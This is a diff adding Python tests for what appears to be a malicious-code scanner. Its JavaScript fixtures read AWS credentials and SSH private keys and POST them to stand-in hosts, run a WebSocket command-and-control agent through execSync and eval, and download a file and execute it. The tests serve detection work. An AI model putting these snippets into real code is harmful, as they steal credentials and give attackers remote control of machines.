@@ -285,3 +285,80 @@ def test_a_scan_reports_the_exfiltration_chain_of_a_script(tmp_path: Path) -> No
         "fetch('https://c.example.net/k', { method: 'POST', body: k });\n"
     )
     assert scan_errors(tmp_path, {"scripts/sync.js": script}) == {("CREDENTIAL_EXFILTRATION", "scripts/sync.js", 3)}
+
+
+def test_path_pieces_spread_into_path_join_name_the_store(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "const parts = ['.aws', 'credentials'];\n"
+        "console.log(fs.readFileSync(path.join(os.homedir(), ...parts), 'utf8').length);\n",
+    )
+    assert (Kind.SECRET_READ, "AWS credentials (~/.aws)") in summary(found)
+
+
+def test_what_a_helper_puts_into_an_object_it_was_handed_is_in_the_callers_object(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "function grab(p, into) { into[p] = fs.readFileSync(p, 'utf8'); }\n"
+        "const bag = {};\n"
+        "[path.join(os.homedir(), '.ssh', 'id_ed25519')].forEach((p) => grab(p, bag));\n"
+        "fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(bag) });\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 5]
+
+
+def test_a_helper_that_only_reads_its_own_local_object_leaves_the_callers_alone(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "function size(p) { const seen = {}; seen[p] = fs.readFileSync(p); return 1; }\n"
+        "const bag = {};\n"
+        "size(path.join(os.homedir(), '.ssh', 'id_ed25519'));\n"
+        "fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(bag) });\n",
+    )
+    assert chain(found, Kind.EGRESS) == [(5, "sends it to collect.example.invalid")]  # no flow claimed
+
+
+def test_what_a_websocket_receives_and_the_script_runs_is_run_remote_code(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const WebSocket = require('ws'); const { execSync } = require('child_process');\n"
+        "const ws = new WebSocket('wss://c2.example.invalid/agent');\n"
+        "ws.on('message', (m) => ws.send(execSync(m.toString()).toString()));\n"
+        "const other = new WebSocket('wss://c3.example.invalid/x');\n"
+        "other.onmessage = (e) => { eval(e.data); };\n",
+    )
+    assert {c.detail for c in found if c.kind is Kind.EXEC_FETCHED} == {"c2.example.invalid", "c3.example.invalid"}
+
+
+def test_a_websocket_that_only_logs_what_it_receives_is_no_finding(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const ws = new WebSocket('wss://api.example.invalid/realtime');\n"
+        "ws.onmessage = (e) => console.log(JSON.parse(e.data));\n",
+    )
+    assert found == []
+
+
+def test_a_global_object_given_a_secret_property_keeps_what_it_is(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const fs = require('fs'), os = require('os');\n"
+        "window.k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
+        "window.fetch('https://c.example.invalid/u', { method: 'POST', body: window.k });\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EGRESS)] == [2, 3]
+
+
+def test_a_response_piped_into_a_file_then_run_runs_the_download(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const https = require('https'), fs = require('fs'), { execFileSync } = require('child_process');\n"
+        "https.get('https://z.example.invalid/bin', (r) => {\n"
+        "  const f = fs.createWriteStream('/tmp/x'); r.pipe(f);\n"
+        "  f.on('finish', () => execFileSync('/tmp/x'));\n"
+        "});\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 4]
